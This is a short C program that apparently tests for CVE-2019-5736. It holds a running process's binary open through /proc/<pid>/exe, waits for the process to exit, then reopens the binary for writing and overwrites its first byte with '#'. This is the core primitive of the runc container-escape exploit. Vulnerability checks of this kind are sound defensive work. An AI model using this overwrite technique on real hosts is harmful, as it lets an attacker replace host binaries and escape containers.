/*
 * Overwrites the program of a running process (CVE-2019-5736): holds it open through /proc/<pid>/exe until the process
 * has ended, then opens it anew for writing. Prints the errno, 0 when it was overwritten.
 */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <unistd.h>

int main(int argc, char **argv)
{
    char path[64];
    if (argc != 2)
        return 2;
    int pid = atoi(argv[1]), writable = -1;
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int held = open(path, O_RDONLY | O_CLOEXEC);
    if (held < 0) {
        printf("%d\n", errno);
        return 0;
    }
    puts("held");
    fflush(stdout);
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 1000; tries++) {
        writable = open(path, O_WRONLY | O_CLOEXEC);
        if (writable >= 0 || errno != ETXTBSY)
            break;
        usleep(10000);
    }
    if (writable < 0 || pwrite(writable, "#", 1, 0) < 0)
        printf("%d\n", errno);
    else
        puts("0");
    return 0;
}
